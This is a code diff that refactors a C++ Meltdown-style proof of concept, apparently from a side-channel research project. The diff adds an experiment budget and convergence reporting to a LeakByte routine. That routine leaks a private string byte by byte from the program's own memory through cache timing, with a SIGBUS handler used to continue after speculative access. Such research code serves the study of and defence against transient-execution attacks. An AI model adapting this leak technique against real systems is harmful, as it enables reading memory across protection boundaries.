@@ -40,6 +40,7 @@
 #include <signal.h>
 
 #include "cache_sidechannel.h"
+#include "experiment.h"
 #include "instr.h"
 #include "local_content.h"
 #include "meltdown_local_content.h"
@@ -68,10 +69,13 @@ static void InitializeUnalignedData() {
   }
 }
 
-static char LeakByte(uintptr_t *unaligned_data, size_t offset) {
-  CacheSideChannel sidechannel;
+static ExperimentOutcome LeakByte(CacheSideChannel &sidechannel,
+                                  uintptr_t *unaligned_data, size_t offset,
+                                  const ExperimentBudget &budget) {
+  sidechannel.ResetScores();
   const std::array<BigByte, 256> &oracle = sidechannel.GetOracle();
 
+  ExperimentLoop loop(budget);
   for (int run = 0;; ++run) {
     size_t safe_offset = run % strlen(public_data);
     sidechannel.FlushOracle();
@@ -106,25 +110,28 @@ static char LeakByte(uintptr_t *unaligned_data, size_t offset) {
     std::pair<bool, char> result =
         sidechannel.RecomputeScores(public_data[safe_offset]);
 
-    if (result.first) {
-      return result.second;
-    }
-
-    if (run > 100000) {
-      std::cerr << "Does not converge " << result.second << std::endl;
-      exit(EXIT_FAILURE);
+    if (loop.Done(result)) {
+      return loop.Finish(sidechannel);
     }
   }
 }
 
 int main() {
+  CacheSideChannel sidechannel;
   InitializeUnalignedData();
   OnSignalMoveRipToAfterspeculation(SIGBUS);
   std::cout << "Leaking the string: ";
   std::cout.flush();
   size_t private_offset = unaligned_private_data - unaligned_public_data;
   for (size_t i = 0; i < strlen(private_data); ++i) {
-    std::cout << LeakByte(unaligned_public_data, private_offset + i);
+    ExperimentOutcome outcome = LeakByte(sidechannel, unaligned_public_data,
+                                         private_offset + i,
+                                         ExperimentBudget());
+    if (!outcome.converged) {
+      std::cerr << "Does not converge " << outcome.value << std::endl;
+      exit(EXIT_FAILURE);
+    }
+    std::cout << outcome.value;
     std::cout.flush();
   }
   std::cout << "\nDone!\n";